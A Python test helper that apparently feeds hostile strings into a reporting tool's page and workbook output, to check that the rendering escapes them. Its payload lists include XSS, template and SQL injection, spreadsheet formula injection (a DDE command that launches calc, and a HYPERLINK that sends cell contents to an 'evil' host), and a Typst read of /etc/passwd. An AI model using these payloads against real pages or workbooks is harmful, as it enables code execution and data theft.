"""Texts that attack a page or a workbook, and a report made of nothing else."""

import dataclasses
import typing
from datetime import date, datetime
from types import NoneType, UnionType

PAYLOADS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)", '" onfocus=alert(1) autofocus="', "</style><script>alert(1)//",
    "</title><script>alert(1)</script>", "</td></tr></table><h1>paid</h1>", "<!--", "-->",
    "<![CDATA[", "]]>", "<?php ?>", "{{ 7*7 }}", "{% raw %}", "{# x #}", "${7*7}", "#{7*7}",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example/x",
    "https://evil.example/?a=1", "http://evil.example", "mailto:a@evil.example", "file:///etc/x",
    "ftp://evil.example", "internal:'Rules'!A1", "external:c:\\x.xlsx", "\\\\evil\\share",
    "=1+1", '=HYPERLINK("http://evil/?"&A1)', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)",
    "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1", "\uff1d1+1", "{=SUM(A1)}", '=WEBSERVICE("http://e")',
    '=DDE("a";"b")', "1E400", "0x1F", "007", "1/2", "TRUE", "#REF!", "_x0041_", "_x000D_",
    "a\x01b\x08c", "\ufffe\uffff", "\u200b", "e\u0301" * 50, "\U0001f4b8" * 40,
    "x" * 40_000, "&lt;b&gt;&amp;&#60;", "&copy;&nbsp;", "'; drop table x; --", "a\nb\r\nc",
    " lead ",
    "%00%0d%0a", "\u202egnp.exe", "url(http://evil.example/a.png)", "expression(alert(1))",
    "@import 'http://e'",
]  # fmt: skip


MARKUP = [
    "#panic()", '#import "x.typ": *', "$ x^2 $", "*bold* _slanted_ `raw`", "= Heading",
    "<label> @ref", '\\ #read("/etc/passwd")', "// comment", "/* gone */ left", "[content]",
]  # fmt: skip
"""What would be markup on paper."""


def poisoned(value, text, kind=None):
    """The same value with every free text replaced; closed sets of words and currencies stay."""
    if dataclasses.is_dataclass(value):
        hints = typing.get_type_hints(type(value))
        changed = {
            f.name: poisoned(getattr(value, f.name), text, hints[f.name])
            for f in dataclasses.fields(value)
            if f.name not in KEPT
        }
        return dataclasses.replace(value, **changed)
    if isinstance(value, tuple):
        return tuple(poisoned(item, text, _inner(kind)) for item in value)
    if isinstance(value, str) and _is_text(kind):
        return text
    if isinstance(value, int | date | datetime | NoneType):
        return value
    return value


KEPT = {
    "currency", "reporting_currency", "time_zone", "disposition", "name", "kind", "run_id",
    "break_id", "root_break_id", "document_ref", "batch_id", "break_ids", "new_breaks", "posted",
    "rule", "code", "previous_run_id", "status", "state", "stream", "severity",
}  # fmt: skip
"""What the layout itself depends on; each of these has a test of its own."""


def _inner(kind):
    args = typing.get_args(kind)
    return args[0] if args else str


def _is_text(kind):
    if typing.get_origin(kind) in (typing.Union, UnionType):
        return str in typing.get_args(kind)
    return kind is str
